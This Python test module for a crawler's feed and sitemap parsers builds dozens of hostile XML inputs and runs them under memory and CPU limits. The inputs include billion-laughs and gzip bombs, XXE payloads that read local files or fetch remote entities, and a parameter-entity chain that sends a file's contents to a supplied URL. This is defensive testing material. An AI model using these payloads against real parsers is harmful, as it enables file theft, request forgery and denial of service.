"""Listings that mean harm: XML that grows, that fetches, or that costs. And a child process that reads them all.

``python -m tests.xml_bombs URL FILE`` reads every one as a feed and as a sitemap, with no more memory than a sound
listing of the same size takes and a little room, and writes a JSON object: by name, what came of each.
"""

import gzip
import json
import resource
import sys
import zlib
from collections.abc import Callable
from itertools import islice

from crawler.discovery.feed import Feed
from crawler.discovery.sitemap import Sitemap
from crawler.page import Page

MB = 2**20
SIZE = 4 * MB  # bytes of a bomb; a page may have 10 MiB
ROOM = 96 * MB  # address space beyond what the process has when all is loaded; a body is held, decoded and copied
CPU_SECONDS = 120  # for all of them together; one that takes minutes is a bomb that went off

ITEM = "<item><title>T {}</title><link>https://wire.example/{}</link></item>"


def rss(inside: str, head: str = "", attributes: str = "") -> bytes:
    """A feed of one sound item with something beside it."""
    item = ITEM.format("a", "a")
    return f'<?xml version="1.0"?>{head}<rss{attributes}><channel>{item}{inside}</channel></rss>'.encode()


def filled(before: str, piece: str, after: str = "", head: str = "") -> bytes:
    """A feed with a piece so often that it has SIZE bytes."""
    return rss(before + piece * (SIZE // len(piece)) + after, head)


def laughs(levels: int, width: int) -> str:
    lines = [f'<!ENTITY l{level} "' + f"&l{level - 1};" * width + '">' for level in range(1, levels)]
    return f'<!DOCTYPE rss [<!ENTITY l0 "lol">{"".join(lines)}]>'


def titled(title: str, head: str = "") -> bytes:
    return rss(f"<item><title>{title}</title><link>https://wire.example/b</link></item>", head)


ATTRIBUTES = "<!DOCTYPE rss [<!ATTLIST item " + "".join(f"a{n} CDATA '{n:050}' " for n in range(800)) + ">]>"


def gzip_of(body: bytes, megabytes: int) -> bytes:
    """A feed and then so many megabytes of spaces, packed."""
    packer = zlib.compressobj(9, wbits=31)
    packed = packer.compress(body) + b"".join(packer.compress(b" " * MB) for _ in range(megabytes))
    return packed + packer.flush()


Bomb = Callable[[str, str], bytes]
"""Made from an address that must not be asked and the path of a file that must not be read."""

GROWING: dict[str, Bomb] = {
    "billion laughs": lambda url, file: titled("&l9;", laughs(10, 10)),
    "billion laughs in an attribute": lambda url, file: rss('<item a="&l9;"/>', laughs(10, 10)),
    "billion laughs in UTF-16": lambda url, file: titled("&l9;", laughs(10, 10)).decode().encode("utf-16"),
    "billion laughs in UTF-16 without a mark": lambda url, file: (
        titled("&l9;", laughs(10, 10)).decode().encode("utf-16-le")
    ),
    "billion laughs in UTF-7": lambda url, file: (
        b'<?xml version="1.0" encoding="utf-7"?>' + titled("&l9;", laughs(10, 10))[21:].decode().encode("utf-7")
    ),
    "billion laughs by parameters": lambda url, file: titled(
        "x", '<!DOCTYPE rss [<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;"><!ENTITY % c "%b;%b;%b;">%c;]>'
    ),
    "billion laughs behind a comment": lambda url, file: titled("&l9;", "<!-- x -->" * 50 + laughs(10, 10)),
    "billion laughs in a second document type": lambda url, file: titled("&l9;", "<!DOCTYPE rss>" + laughs(10, 10)),
    "billion laughs after the root has begun": lambda url, file: rss(
        laughs(10, 10) + "<item><title>&l9;</title></item>"
    ),
    "quadratic blowup": lambda url, file: titled(
        "&a;" * 100_000, '<!DOCTYPE rss [<!ENTITY a "' + "a" * 50_000 + '">]>'
    ),
    "entity in a circle": lambda url, file: titled("&a;", '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    "default attributes by the thousand": lambda url, file: rss("<item/>" * 1000, ATTRIBUTES),
    "gzip": lambda url, file: gzip_of(rss(""), 3000),
    "gzip in gzip": lambda url, file: gzip.compress(gzip_of(rss(""), 3000)),
    "gzip of empty members": lambda url, file: gzip.compress(rss("")) + gzip.compress(b"") * (SIZE // 20),
}

FETCHING: dict[str, Bomb] = {
    "file by an entity": lambda url, file: titled("&x;", f'<!DOCTYPE rss [<!ENTITY x SYSTEM "file://{file}">]>'),
    "file by a bare path": lambda url, file: titled("&x;", f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}">]>'),
    "address by an entity": lambda url, file: titled("&x;", f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{url}/entity">]>'),
    "address by an entity in an attribute": lambda url, file: rss(
        '<item><link href="&x;"/></item>', f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{url}/attribute">]>'
    ),
    "public entity": lambda url, file: titled("&x;", f'<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X//EN" "{url}/public">]>'),
    "parameter entity": lambda url, file: titled("x", f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "{url}/parameter"> %x;]>'),
    "parameter entities that send a file": lambda url, file: titled(
        "&send;",
        f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "file://{file}">'
        f'<!ENTITY % e "<!ENTITY send SYSTEM &#39;{url}/?%f;&#39;>">%e;]>',
    ),
    "external document type": lambda url, file: titled("&x;", f'<!DOCTYPE rss SYSTEM "{url}/x.dtd">'),
    "external document type that is public": lambda url, file: titled(
        "x", f'<!DOCTYPE rss PUBLIC "-//X//EN" "{url}/p.dtd">'
    ),
    "inclusion": lambda url, file: rss(
        f'<item><title><x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="file://{file}"/></title>'
        f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{url}/included"/></item>'
    ),
    "style sheet": lambda url, file: titled("x", f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>'),
    "schema": lambda url, file: rss(
        "", attributes=f' xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation="{url}/x.xsd"'
    ),
    "base": lambda url, file: rss(f'<item xml:base="file://{file}"><link>#x</link></item>'),
    "notation and unparsed entity": lambda url, file: titled(
        "x", f'<!DOCTYPE rss [<!NOTATION n SYSTEM "{url}/n"><!ENTITY x SYSTEM "{url}/u" NDATA n>]>'
    ),
}

COSTLY: dict[str, Bomb] = {
    "one attribute": lambda url, file: filled('<item a="', "x", '"/>'),
    "attributes": lambda url, file: rss("<item " + " ".join(f"a{n}=''" for n in range(SIZE // 11)) + "/>"),
    "prefixes": lambda url, file: rss("<item " + " ".join(f"xmlns:a{n}='u{n}'" for n in range(SIZE // 24)) + "/>"),
    "one text": lambda url, file: filled("<item><title>", "x", "</title></item>"),
    "one name": lambda url, file: filled("<item><", "x", "/></item>"),
    "one namespace": lambda url, file: rss(
        '<item xmlns="' + "x" * 500_000 + '">' + "".join(f"<a{n}/>" for n in range(4000)) + "</item>"
    ),
    "namespaces": lambda url, file: rss("".join(f'<a xmlns="{n:01000}"/>' for n in range(SIZE // 1024))),
    "names": lambda url, file: rss("<item>" + "".join(f"<a{n}/>" for n in range(SIZE // 11)) + "</item>"),
    "long names": lambda url, file: rss("<item>" + "".join(f"<x{n:09000}/>" for n in range(800)) + "</item>"),
    "one comment": lambda url, file: filled("<!--", "x", "-->"),
    "one comment that does not end": lambda url, file: filled("<!--", "- ", ""),
    "one instruction": lambda url, file: filled("<?x ", "x", "?>"),
    "one CDATA": lambda url, file: filled("<item><title><![CDATA[", "x", "]]></title></item>"),
    "CDATA": lambda url, file: filled("<item><title>", "<![CDATA[x]]>", "</title></item>"),
    "CDATA that does not end": lambda url, file: filled("<item><title>", "<![CDATA[", ""),
    "depth": lambda url, file: filled("<item>", "<a>", ""),
    "depth of items": lambda url, file: filled("", "<item>", ""),
    "depth by the root": lambda url, file: b"<a>" * (SIZE // 3),
    "items": lambda url, file: filled("", "<item/>", ""),
    "fields": lambda url, file: filled("<item>", "<link>x</link>", "</item>"),
    "brackets": lambda url, file: filled("", "<", ""),
    "ends": lambda url, file: filled("", "]]>", ""),
    "ampersands": lambda url, file: filled("<item><title>", "&", "</title></item>"),
    "references": lambda url, file: filled("<item><title>", "&amp;", "</title></item>"),
    "entities nobody knows": lambda url, file: filled("<item><title>", "&x1;", "</title></item>"),
    "tags that do not end": lambda url, file: filled("", "<a b='", ""),
    "closing tags": lambda url, file: filled("", "</a>", ""),
    "marks over the text": lambda url, file: filled("<item><title>", "\u0301", "</title></item>"),
    "a prolog that does not end": lambda url, file: b"<?xml version='1.0'?>" + b"<!-- x -->" * (SIZE // 10),
    "a document type that does not end": lambda url, file: b"<!DOCTYPE rss [" + b"<!ENTITY a 'x'>" * (SIZE // 15),
    "white space": lambda url, file: b" " * SIZE,
    "addresses": lambda url, file: b"https://wire.example/" * (SIZE // 21),
}

BOMBS = {**GROWING, **FETCHING, **COSTLY}


def read(body: bytes) -> dict[str, object]:
    """What a body gives as a feed and as a sitemap, of each at most a thousand links."""
    came: dict[str, object] = {}
    for source in (Feed(), Sitemap()):
        reading = source.read(Page(body, url="https://wire.example/listing"))
        links = list(islice(reading.found, 1000))
        came[type(source).__name__] = {
            "links": [[link.url[:300], (link.headline or "")[:300]] for link in links[:3]],
            "longest": max((len(link.url) + len(link.headline or "") for link in links), default=0),
            "trouble": (reading.trouble or "")[:300],
        }
    return came


def main(url: str, file: str) -> None:
    """Read all; a bomb that wants more memory or time than there is ends the process, or is told as a MemoryError."""
    read(rss(ITEM.format("b", "b") * (SIZE // 80)))  # all is loaded, and memory as large as a sound listing needs
    used = int(open("/proc/self/statm").read().split()[0]) * resource.getpagesize()  # noqa: SIM115
    resource.setrlimit(resource.RLIMIT_AS, (used + ROOM, used + ROOM))
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
    for name, make in BOMBS.items():
        body = make(url, file)
        try:
            came: object = read(body)
        except Exception as fault:  # told to the test, which knows that there must be none
            came = f"{type(fault).__name__}: {fault}"[:300]
        seconds = resource.getrusage(resource.RUSAGE_SELF).ru_utime
        print(json.dumps([name, came, round(seconds, 1)]), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
